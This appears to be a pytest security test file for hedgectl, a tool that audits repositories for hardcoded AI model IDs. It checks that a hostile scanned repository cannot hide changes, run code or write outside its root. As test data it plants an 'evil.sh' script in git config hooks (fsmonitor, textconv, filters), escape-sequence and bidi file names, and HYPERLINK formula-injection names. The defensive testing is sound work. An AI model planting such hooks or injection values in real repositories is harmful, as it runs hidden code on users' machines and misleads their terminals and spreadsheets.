"""A scanned repository is hostile: it cannot blind the gate, run code, or write outside its root."""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.cli.helpers import run

NAMED = 'A = "deepseek-chat"\nB = "kimi-k2-thinking"\n'


def git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, timeout=60)


def ids(out: str) -> list[tuple[str, str]]:
    return sorted((f["path"], f["model_id"]) for f in json.loads(out)["findings"])


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    if shutil.which("git") is None:
        pytest.fail("git is required (make test installs it)")
    root = tmp_path / "repo"
    root.mkdir()
    git("init", "-q", "-b", "main", cwd=root)
    git("config", "user.email", "t@example.invalid", cwd=root)
    git("config", "user.name", "t", cwd=root)
    (root / "README.md").write_text("app\n")
    git("add", ".", cwd=root)
    git("commit", "-qm", "init", cwd=root)
    git("checkout", "-qb", "feature", cwd=root)
    return root


# --------------------------------------------------------------------- 1. .gitattributes


@pytest.mark.parametrize("attributes", ["*.py -diff\n", "*.py binary\n", "*.py diff=nothing\n"])
def test_gitattributes_cannot_hide_added_lines(repo: Path, attributes: str) -> None:
    (repo / ".gitattributes").write_text(attributes)
    (repo / "app.py").write_text(NAMED)
    git("add", ".", cwd=repo)
    git("commit", "-qm", "pr", cwd=repo)
    code, out, _ = run("audit", "--diff", "main", "-f", "json", cwd=repo)
    assert code == 1
    assert ids(out) == [("app.py", "deepseek-chat"), ("app.py", "kimi-k2-thinking")]
    git("reset", "-q", "--soft", "main", cwd=repo)
    code, out, _ = run("audit", "--staged", "-f", "json", cwd=repo)
    assert code == 1 and len(ids(out)) == 2


# ------------------------------------------------------------------------- 2. file names

ODD_NAMES = ['we"ird.py', "back\\slash.py", "tab\there.py", "new\nline.py", "ünï.py", "star*.py"]


@pytest.mark.parametrize("mode", ["--staged", "--diff"])
def test_any_file_name_is_audited_in_diff_modes(repo: Path, mode: str) -> None:
    for name in ODD_NAMES:
        (repo / name).write_text('M = "deepseek-chat"\n')
    (repo / "plain.py").write_text("x = 1\n")  # matched by star*.py only if taken as a glob
    git("add", ".", cwd=repo)
    if mode == "--diff":
        git("commit", "-qm", "pr", cwd=repo)
    args = ["--staged"] if mode == "--staged" else ["--diff", "main"]
    code, out, err = run("audit", *args, "-f", "json", "-v", cwd=repo)
    assert code == 1, err
    assert sorted(p for p, _ in ids(out)) == sorted(ODD_NAMES)
    assert "deleted" not in err


# ----------------------------------------------------------- 4. code from repository config


def _arm(repo: Path, marker: Path) -> None:
    """Every place git would run a program the repository names."""
    script = repo.parent / "evil.sh"
    script.write_text(f'#!/bin/sh\necho "$0 $*" >> {marker}\ncat\n')
    script.chmod(0o755)
    git("config", "core.fsmonitor", str(script), cwd=repo)
    git("config", "diff.evil.textconv", str(script), cwd=repo)
    git("config", "diff.external", str(script), cwd=repo)
    git("config", "filter.evil.clean", str(script), cwd=repo)
    git("config", "filter.evil.smudge", str(script), cwd=repo)
    git("config", "filter.evil.required", "true", cwd=repo)
    git("config", "core.hooksPath", str(repo.parent), cwd=repo)
    (repo / ".gitattributes").write_text("*.py diff=evil filter=evil\n")


def test_repository_config_runs_nothing(repo: Path) -> None:
    (repo / "app.py").write_text(NAMED)
    git("add", ".", cwd=repo)
    git("commit", "-qm", "pr", cwd=repo)
    marker = repo.parent / "ran.txt"
    _arm(repo, marker)
    # A stat-dirty work tree: git has to hash the files again (clean filter, fsmonitor).
    (repo / "app.py").write_text(NAMED + 'C = "MiniMax-M2"\n')
    (repo / "staged.py").write_text('D = "glm-4.6"\n')
    subprocess.run(["git", "-c", "core.fsmonitor=false", "-c", "filter.evil.clean=cat", "add",
                    "staged.py"], cwd=repo, check=True, capture_output=True)  # fmt: skip
    assert not marker.exists()
    for args in (["audit"], ["audit", "--staged"], ["audit", "--diff", "HEAD"],
                 ["audit", "--diff", "main"], ["rewrite"], ["rewrite", "--check"]):  # fmt: skip
        code, out, err = (
            run(*args, "-f", "json", cwd=repo) if args[0] == "audit" else run(*args, cwd=repo)
        )
        assert code in (0, 1), (args, err)
        assert not marker.exists(), (args, marker.read_text())
    code, out, _ = run("audit", "--diff", "main", "-f", "json", cwd=repo)
    assert ("app.py", "MiniMax-M2") in ids(out)
    code, _, err = run("rewrite", "--write", "--force", cwd=repo)
    assert code == 0, err
    assert not marker.exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give the checkout another owner")
def test_checkout_owned_by_another_user_works_in_diff_modes(repo: Path) -> None:
    (repo / "app.py").write_text(NAMED)
    git("add", ".", cwd=repo)
    git("commit", "-qm", "pr", cwd=repo)
    for dirpath, dirnames, filenames in os.walk(repo):
        for name in [*dirnames, *filenames]:
            os.lchown(os.path.join(dirpath, name), 54321, 54321)
    os.lchown(repo, 54321, 54321)
    marker = repo.parent / "ran.txt"
    script = repo.parent / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    with (repo / ".git" / "config").open("a") as fh:
        fh.write(f"[core]\n\tfsmonitor = {script}\n")
    code, out, err = run("audit", "--diff", "main", "-f", "json", cwd=repo)
    assert code == 1, err
    assert len(ids(out)) == 2
    assert not marker.exists()


# --------------------------------------------------------------------------- 3. markers


def test_a_typed_marker_exempts_nothing(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text(
        "# generated by hedgectl from hedge.toml (sha256:" + "0" * 64 + ")\n" + NAMED
    )
    (tmp_path / "report.json").write_text(
        '{"schema": "hedgectl.audit/v1", "tool": {"name": "hedgectl"}, "model": "MiniMax-M2"}\n'
    )
    code, out, _ = run("audit", "-f", "json", cwd=tmp_path)
    assert code == 1
    assert ids(out) == [
        ("app.py", "deepseek-chat"), ("app.py", "kimi-k2-thinking"), ("report.json", "MiniMax-M2"),
    ]  # fmt: skip
    assert {f["location"] for f in json.loads(out)["findings"]} != {"externalised"}


@pytest.mark.parametrize("fmt", ["litellm", "env", "json", "portkey", "openrouter"])
def test_generated_files_stay_exempt_only_while_unedited(tmp_path: Path, fmt: str) -> None:
    (tmp_path / "hedge.toml").write_text(
        '[models.chat]\nid = "deepseek-chat"\nprovider = "deepseek"\n'
    )
    out_file = tmp_path / f"gateway.{fmt}"
    code, _, err = run("config", "export", "--format", fmt, "-o", out_file.name, cwd=tmp_path)
    assert code == 0, err
    code, out, _ = run("audit", out_file.name, "-f", "json", cwd=tmp_path)
    assert code == 0
    assert {f["location"] for f in json.loads(out)["findings"]} <= {"externalised"}
    # One more line from a contributor: the seal breaks and the file gates like any other.
    with out_file.open("a") as fh:
        fh.write('\n"kimi-k2-thinking"\n')
    code, out, _ = run("audit", out_file.name, "-f", "json", cwd=tmp_path)
    assert code == 1
    assert ("gateway." + fmt, "kimi-k2-thinking") in ids(out)


def test_a_sealed_file_is_exempt_only_at_a_path_the_config_names(tmp_path: Path) -> None:
    """Anyone can run hedgectl: a sealed file is only trusted where hedge.toml says one lives."""
    (tmp_path / "hedge.toml").write_text(
        '[models.chat]\nid = "kimi-k2-thinking"\nprovider = "moonshot"\n'
    )
    code, sealed_json, _ = run("config", "export", "--format", "json", cwd=tmp_path)
    code, sealed_yaml, _ = run("config", "export", "--format", "litellm", cwd=tmp_path)
    assert code == 0
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "models.json").write_text(sealed_json)  # skipped as output until now
    (tmp_path / "src" / "gateway.yaml").write_text(sealed_yaml)
    (tmp_path / "src" / "hedge.toml").write_text('[models.x]\nid = "deepseek-chat"\n')
    code, out, _ = run("audit", "-f", "json", cwd=tmp_path)
    assert code == 1
    findings = json.loads(out)["findings"]
    located = {(f["path"], f["model_id"], f["location"]) for f in findings}
    assert ("src/models.json", "kimi-k2-thinking", "externalised") not in located
    assert {p for p, _, loc in located if loc != "externalised"} == {
        "src/models.json",
        "src/gateway.yaml",
        "src/hedge.toml",
    }
    assert {p for p, _, loc in located if loc == "externalised"} == {"hedge.toml"}
    # Named by the configuration (anchored paths and globs): exempt, the same bytes.
    with (tmp_path / "hedge.toml").open("a") as fh:
        fh.write('[audit]\nexternalised = ["/src/*.json", "gateway.yaml", "src/hedge.toml"]\n')
    code, out, _ = run("audit", "-f", "json", cwd=tmp_path)
    assert code == 0, out
    doc = json.loads(out)
    assert {f["location"] for f in doc["findings"]} == {"externalised"}
    assert "src/models.json" not in {f["path"] for f in doc["findings"]}  # own output: skipped
    # An edited byte still breaks the seal at a named path.
    (tmp_path / "src" / "gateway.yaml").write_text(sealed_yaml + "# x\n")
    code, out, _ = run("audit", "-f", "json", cwd=tmp_path)
    assert code == 1 and ("src/gateway.yaml", "kimi-k2-thinking") in ids(out)


def test_export_names_its_output_in_the_config(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "x"\n\n[tool.hedgectl.models.chat]\nid = "deepseek-chat"\n'
        'provider = "deepseek"\n'
    )
    (tmp_path / "deploy").mkdir()
    code, _, err = run("config", "export", "-f", "litellm", "-o", "deploy/l.yaml", cwd=tmp_path)
    assert code == 0 and "added /deploy/l.yaml to [audit] externalised" in err
    import tomllib

    doc = tomllib.loads((tmp_path / "pyproject.toml").read_text())
    assert doc["tool"]["hedgectl"]["audit"]["externalised"] == ["/deploy/l.yaml"]
    assert doc["project"] == {"name": "x"}
    code, _, err = run("config", "export", "-f", "litellm", "-o", "deploy/l.yaml", cwd=tmp_path)
    assert code == 0 and "added" not in err  # named once
    code, out, _ = run("audit", "deploy", "-f", "json", cwd=tmp_path)
    assert code == 0 and {f["location"] for f in json.loads(out)["findings"]} == {"externalised"}


def test_the_baseline_in_use_is_skipped_even_unsealed(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text(NAMED)
    assert run("audit", "--write-baseline", "base.json", cwd=tmp_path)[0] == 0
    code, out, _ = run("audit", "--baseline", "base.json", "-f", "json", cwd=tmp_path)
    assert code == 0 and ids(out) == []
    doc = json.loads((tmp_path / "base.json").read_text())
    doc.pop("generated")  # as written by earlier versions
    (tmp_path / "base.json").write_text(json.dumps(doc))
    code, out, _ = run("audit", "--baseline", "base.json", "-f", "json", cwd=tmp_path)
    assert code == 0 and ids(out) == []
    # Without --baseline the unsealed file is just JSON with IDs in it.
    code, out, _ = run("audit", "-f", "json", cwd=tmp_path)
    assert ("base.json", "deepseek-chat") in ids(out)


# -------------------------------------------------------------- 5. writes outside the root


def _tree(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): p.read_text() if p.is_file() else "->" + os.readlink(p)
        for p in sorted(folder.rglob("*"))
        if p.is_file() or p.is_symlink()
    }


@pytest.fixture
def sandbox(tmp_path: Path) -> tuple[Path, Path]:
    project, outside = tmp_path / "project", tmp_path / "outside"
    project.mkdir()
    outside.mkdir()
    (project / "app.py").write_text('MODEL = "deepseek-chat"\n')
    (project / "app.js").write_text('const MODEL = "kimi-k2-thinking";\nconsole.log(MODEL);\n')
    return project, outside


def test_symlinked_hedge_toml_is_not_followed_out(sandbox: tuple[Path, Path]) -> None:
    project, outside = sandbox
    (outside / "hedge.toml").write_text("# someone else's file\n")
    (project / "hedge.toml").symlink_to(outside / "hedge.toml")
    before = _tree(project), _tree(outside)
    code, diff, _ = run("rewrite", cwd=project)
    assert code == 0 and "../outside" not in diff and "./hedge_models.cjs" in diff
    code, _, err = run("rewrite", "--write", "--force", cwd=project)
    assert code == 2 and "outside the project root" in err and "hedge.toml" in err
    assert (_tree(project), _tree(outside)) == before


def test_dangling_resolver_link_is_refused(sandbox: tuple[Path, Path]) -> None:
    project, outside = sandbox
    (project / "hedge_models.py").symlink_to(outside / "planted.py")
    before = _tree(project), _tree(outside)
    code, _, err = run("rewrite", "--write", "--force", cwd=project)
    assert code == 2 and "dangling symlink" in err
    assert (_tree(project), _tree(outside)) == before
    assert not (outside / "planted.py").exists()


def test_code_through_a_symlinked_folder_is_refused(sandbox: tuple[Path, Path]) -> None:
    project, outside = sandbox
    (project / "pkg").symlink_to(outside, target_is_directory=True)
    (outside / "client.js").write_text('export const MODEL = "glm-4.6";\n')
    before = _tree(project), _tree(outside)
    code, _, err = run("rewrite", "--write", "--force", "app.py", "pkg/client.js", cwd=project)
    assert code == 2 and "outside the project root" in err
    assert (_tree(project), _tree(outside)) == before


# ------------------------------------------------------------------ 7. terminal injection

EVIL_NAME = "a\x1b]0;owned\x07\x1b[2J\u202eyp.py"


def test_control_characters_are_escaped_in_human_output(tmp_path: Path) -> None:
    (tmp_path / EVIL_NAME).write_text('M = "deepseek-chat"\n')
    (tmp_path / "skip\x1b[31m.png").write_bytes(b"\x89PNG")
    for fmt in ("table", "csv", "markdown"):
        code, out, err = run("audit", "-v", "-f", fmt, cwd=tmp_path)
        assert code == 1
        for text in (out, err):
            assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, fmt
        assert "a\\x1b]0;owned\\x07\\x1b[2J\\u202eyp.py" in out, fmt
    # Machine formats keep the exact name.
    code, out, _ = run("audit", "-f", "json", cwd=tmp_path)
    assert [f["path"] for f in json.loads(out)["findings"]] == [EVIL_NAME]
    code, out, _ = run("audit", "-f", "sarif", cwd=tmp_path)
    from urllib.parse import unquote

    result = json.loads(out)["runs"][0]["results"][0]
    assert (
        unquote(result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]) == EVIL_NAME
    )
    code, _, err = run("audit", "missing\x1b[2J.py", cwd=tmp_path)
    assert code == 2 and "\x1b" not in err and "missing\\x1b[2J.py" in err


def test_rewrite_handles_a_file_name_with_escape_sequences(tmp_path: Path) -> None:
    import tomllib

    (tmp_path / EVIL_NAME).write_text('MODEL = "deepseek-chat"\n')
    code, out, err = run("rewrite", "--write", "--force", cwd=tmp_path)
    assert code == 0, err
    assert "\x1b" not in out + err
    models = tomllib.loads((tmp_path / "hedge.toml").read_text())["models"]
    assert [m["id"] for m in models.values()] == ["deepseek-chat"]
    assert "hedge_model(" in (tmp_path / EVIL_NAME).read_text()


def test_a_file_name_that_is_not_utf8_is_audited_not_a_crash(tmp_path: Path) -> None:
    name = os.fsdecode(b"b\xff.py")
    (tmp_path / name).write_text('M = "deepseek-chat"\n')
    for fmt in ("table", "csv", "markdown", "sarif"):
        code, out, err = run("audit", "-f", fmt, cwd=tmp_path)
        assert code == 1, (fmt, err)
    code, out, err = run("audit", "-f", "table", cwd=tmp_path)
    assert "b\\xff.py" in out
    # JSON stays valid UTF-8 and loses nothing: U+FFFD for reading, the exact bytes in base64.
    doc = json.loads(runner_bytes("audit", "-f", "json", cwd=tmp_path).decode("utf-8"))
    (finding,) = doc["findings"]
    assert finding["path"] == "b\ufffd.py"
    assert base64.b64decode(finding["path_bytes"]) == b"b\xff.py"
    (row,) = doc["inventory"]["files"]
    assert base64.b64decode(row["path_bytes"]) == b"b\xff.py"
    (tmp_path / "plain.py").write_text('M = "deepseek-chat"\n')
    doc = json.loads(runner_bytes("audit", "plain.py", "-f", "json", cwd=tmp_path))
    assert "path_bytes" not in doc["findings"][0]  # only where the name is not UTF-8
    (tmp_path / "plain.py").unlink()
    sarif = runner_bytes("audit", "-f", "sarif", cwd=tmp_path).decode("utf-8")
    uri = json.loads(sarif)["runs"][0]["results"][0]["locations"][0]["physicalLocation"]
    assert uri["artifactLocation"]["uri"] == "b%FF.py"
    assert run("audit", "--write-baseline", "base.json", cwd=tmp_path)[0] == 0
    json.loads((tmp_path / "base.json").read_bytes().decode("utf-8"))
    assert run("audit", "--baseline", "base.json", cwd=tmp_path)[0] == 0


def runner_bytes(*args: str, cwd: Path) -> bytes:
    old = Path.cwd()
    os.chdir(cwd)
    try:
        from typer.testing import CliRunner

        from hedgectl.cli.app import app

        return CliRunner().invoke(app, list(args), catch_exceptions=False).stdout_bytes
    finally:
        os.chdir(old)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(
    tmp_path: Path, lead: str
) -> None:
    import csv
    import io

    name = f'{lead}HYPERLINK("x.invalid?"&A1,"ok").py'
    (tmp_path / name).write_text('M = "deepseek-chat"\n')
    code, out, _ = run("audit", "-f", "csv", cwd=tmp_path)
    assert code == 1
    (row,) = list(csv.DictReader(io.StringIO(out)))
    shown = {"\t": "\\t", "\r": "\\r"}.get(lead, lead)
    # OWASP: a leading apostrophe makes the cell text; tab and CR are escaped, then guarded too.
    expected = ("'" if lead in "=+-@" else "") + shown + name[1:]
    assert row["path"] == expected
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_a_file_and_a_link_to_it_report_the_same_path_every_run(repo: Path) -> None:
    """Files are read in git's order, so of two paths to one file the first in that order is
    reported, every run (not whichever a hash seed puts first)."""
    from hedgectl.adapters.files import select_files

    for i in range(30):
        (repo / f"m{i:02}.py").write_text(f'M = "gpt-4o-{i}"\n')
    (repo / "docs").mkdir()
    (repo / "docs" / "post.py").write_text('MODEL = "deepseek-chat"\n')
    (repo / "blog").mkdir()
    (repo / "blog" / "post.py").symlink_to("../docs/post.py")
    git("add", ".", cwd=repo)
    listed = (
        subprocess.run(
            ["git", "ls-files", "-z"], cwd=repo, capture_output=True, check=True, timeout=60
        )
        .stdout.decode()
        .split("\0")
    )
    in_git_order = [name for name in listed if name and name != "docs/post.py"]
    shown = [display for _, display in select_files([Path(".")], cwd=repo).files]
    assert shown == in_git_order  # blog/post.py stands for both paths
    _code, out, _ = run("audit", ".", "-f", "json", "--fail-on", "never", cwd=repo)
    assert ("blog/post.py", "deepseek-chat") in ids(out)


def test_rewrite_plan_with_odd_file_names_applies_with_git(repo: Path, tmp_path: Path) -> None:
    """The plan names files as git does (quoted, C escapes), so `git apply` reproduces --write
    exactly for names with a newline, a quote, a backslash, non-UTF-8 bytes or bidi controls."""
    names = [b"new\nline.py", b'q"uote.py', b"back\\slash.py", b"latin\xff.py", "\u202eevil.py"]
    for name in names:
        raw = name if isinstance(name, bytes) else name.encode()
        (repo / os.fsdecode(raw)).write_text('MODEL = "deepseek-chat"\n')
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "odd names", cwd=repo)
    applied = tmp_path / "applied"
    shutil.copytree(repo, applied)
    code, _, _ = run("rewrite", "-o", str(tmp_path / "plan.diff"), cwd=repo)
    assert code == 0
    plan = (tmp_path / "plan.diff").read_bytes()
    assert plan.isascii() and b"\x1b" not in plan and b'"a/new\\nline.py"' in plan
    git("apply", str(tmp_path / "plan.diff"), cwd=applied)
    code, _, _ = run("rewrite", "--write", "--force", cwd=repo)
    assert code == 0
    shutil.rmtree(applied / ".git")
    shutil.rmtree(repo / ".git")
    assert _tree(applied) == _tree(repo), "git apply of the plan differs from --write"
